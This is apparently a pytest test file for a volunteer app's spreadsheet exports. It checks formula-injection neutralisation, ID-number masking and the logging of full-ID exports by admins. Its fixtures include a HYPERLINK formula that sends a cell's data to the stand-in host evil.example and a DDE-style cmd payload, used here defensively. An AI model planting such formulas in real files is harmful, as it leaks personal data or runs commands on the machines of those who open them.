"""Exports are safe to open: no cell becomes a formula, ID numbers masked unless an admin asks
for them in full for an official purpose, and that request is logged."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from coordinator.events.models import CONFIRMED, Signup, VolunteerProfile
from coordinator.exports.files import csv_cell, formula_like, mask_id_number, to_csv, to_xlsx
from coordinator.exports.models import FullExport
from coordinator.extensions import db
from coordinator.i18n import utcnow
from tests.conftest import field_errors
from tests.events.conftest import make_event

pytestmark = pytest.mark.usefixtures("english")

ID_NUMBER = "110108199001011234"
MASKED = "1101**********1234"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&C2,"点击查看")'
FORMULAS = [
    HOSTILE,
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " ＝cmd|' /C calc'!A0",
]
PLAIN = ["刘芳", "a=b", "13800000007", "BJ-7", "", "1-2单元"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_stay_as_they_are(text):
    assert not formula_like(text)
    assert csv_cell(text) == text
    assert csv_cell(-2.5) == -2.5 and csv_cell(3) == 3 and csv_cell(None) == ""


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    body = to_xlsx(["名", "数"], [[t, -1.5] for t in FORMULAS + PLAIN], "表")
    sheet = load_workbook(io.BytesIO(body)).active
    for row, text in zip(sheet.iter_rows(min_row=2), FORMULAS + PLAIN, strict=True):
        name, number = row
        # XML keeps a CR as a line feed; an empty text is an empty cell.
        assert (name.value or "") == text.replace("\r", "\n")
        assert name.data_type == ("s" if text else "n")
        assert name.quotePrefix == formula_like(text)
        assert number.data_type == "n" and number.value == -1.5
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # not one formula


def test_control_characters_do_not_break_the_xlsx():
    sheet = load_workbook(io.BytesIO(to_xlsx(["名"], [["刘\x07芳\x00", "\x0b=1+1"]], "表"))).active
    assert sheet.cell(2, 1).value == "刘芳"
    assert sheet.cell(2, 2).value == "=1+1" and sheet.cell(2, 2).data_type == "s"


def test_csv_header_is_written_through_the_same_guard():
    rows = list(csv.reader(io.StringIO(to_csv(["=x", "名"], [[1, "-1"]]).decode("utf-8-sig"))))
    assert rows == [["'=x", "名"], ["1", "'-1"]]


def test_id_numbers_are_masked():
    assert mask_id_number(ID_NUMBER) == MASKED
    assert mask_id_number("E12345678") == "E1*****78"
    assert mask_id_number("123") == "***" and mask_id_number(None) == ""


def _recorded(staff, volunteer, **kw):
    event = make_event(organiser=staff, starts_in=timedelta(days=-1), **kw)
    db.session.add(
        VolunteerProfile(
            user_id=volunteer.id,
            id_type="resident_id",
            id_number=ID_NUMBER,
            volunteer_number="@BJ-7",
        )
    )
    db.session.add(
        Signup(
            event_id=event.id,
            role_id=event.roles[0].id,
            user_id=volunteer.id,
            status=CONFIRMED,
            check_in_at=event.starts_at,
            check_out_at=event.starts_at + timedelta(hours=2, minutes=30),
            hours_minutes=150,
            hours_confirmed_by_id=staff.id,
            hours_confirmed_at=utcnow(),
        )
    )
    db.session.commit()
    return event


def test_a_name_from_the_public_join_form_is_no_formula_in_either_file(client, auth, make):
    staff = make.user("staff")
    make.commit()
    joined = client.post(
        "/volunteer/join",
        data={
            "name": HOSTILE[:40],
            "phone": "13800000077",
            "password": "longenough",
            "confirm": "longenough",
            "community_id": staff.community_id,
        },
    )
    assert joined.status_code == 302
    client.post("/logout")
    from coordinator.auth.models import User

    volunteer = db.session.scalar(select(User).filter_by(phone="13800000077"))
    db.session.delete(db.session.scalar(select(VolunteerProfile).filter_by(user_id=volunteer.id)))
    _recorded(staff, volunteer, title="-清理车棚")
    auth.login(staff)

    rows = list(csv.reader(io.StringIO(client.get("/events/records.csv").data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + HOSTILE[:40]
    assert rows[1][3] == "'@BJ-7" and rows[1][4] == "'-清理车棚"
    assert rows[1][10] == "2.5"

    body = client.get("/events/records.xlsx").data
    sheet = load_workbook(io.BytesIO(body)).active
    name, volunteer_number, title, hours = (sheet.cell(2, c) for c in (1, 4, 5, 11))
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE[:40], "s", True)
    assert volunteer_number.quotePrefix and title.quotePrefix and title.value == "-清理车棚"
    assert (hours.value, hours.data_type) == (2.5, "n")
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("role", ["staff", "admin"])
def test_id_numbers_are_masked_in_both_files_for_everyone(client, auth, make, role):
    staff = make.user("staff")
    _recorded(staff, make.user("volunteer", name="刘芳"))
    reader = staff if role == "staff" else make.user("admin")
    make.commit()
    auth.login(reader)
    text = client.get("/events/records.csv").data.decode("utf-8-sig")
    assert ID_NUMBER not in text and list(csv.reader(io.StringIO(text)))[1][2] == MASKED
    sheet = load_workbook(io.BytesIO(client.get("/events/records.xlsx").data)).active
    assert sheet.cell(2, 3).value == MASKED
    assert ID_NUMBER not in client.get("/events/records").get_data(as_text=True)


def test_admin_gets_full_numbers_only_with_a_purpose_and_it_is_logged(client, auth, make):
    staff = make.user("staff")
    _recorded(staff, make.user("volunteer", name="刘芳"), title="甲")
    _recorded(make.user("staff"), make.user("volunteer"), title="乙")
    admin = make.user("admin", name="刘洋")
    make.commit()
    auth.login(admin)
    page = client.get("/events/records").get_data(as_text=True)
    assert "Full ID numbers for an official purpose" in page

    url = f"/events/records/full?community={staff.community_id}&date_from=2000-01-01"
    missing = client.post(url, data={"purpose": "  ", "fmt": "csv"})
    assert missing.status_code == 422
    assert "Say for what official purpose you need the full ID numbers." in field_errors(
        missing.get_data(as_text=True)
    )
    assert db.session.scalar(select(FullExport.id)) is None

    purpose = "向区民政局报送2026年志愿服务时长"
    answer = client.post(url, data={"purpose": purpose, "fmt": "xlsx"})
    assert answer.status_code == 200 and "attachment" in answer.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(answer.data)).active
    assert [sheet.cell(r, 3).value for r in range(2, sheet.max_row + 1)] == [ID_NUMBER]
    assert sheet.cell(2, 5).value == "甲"  # the filter held

    entry = db.session.scalars(select(FullExport)).one()
    assert (entry.user_id, entry.purpose, entry.export, entry.rows) == (
        admin.id,
        purpose,
        "service_records",
        1,
    )
    assert json.loads(entry.filters) == {
        "community_id": staff.community_id,
        "date_from": "2000-01-01",
    }
    assert abs(entry.created_at - utcnow()) < timedelta(minutes=1)

    log = client.get("/exports/log").get_data(as_text=True)
    assert purpose in log and "刘洋" in log and staff.community.name in log
    assert "2000-01-01" in log


def test_staff_can_neither_export_in_full_nor_read_the_log(client, auth, make):
    staff = make.user("staff")
    _recorded(staff, make.user("volunteer"))
    auth.login(staff)
    assert "Full ID numbers" not in client.get("/events/records").get_data(as_text=True)
    answer = client.post("/events/records/full", data={"purpose": "想看看", "fmt": "csv"})
    assert answer.status_code == 403 and ID_NUMBER.encode() not in answer.data
    assert client.get("/exports/log").status_code == 403
    assert db.session.scalar(select(FullExport.id)) is None
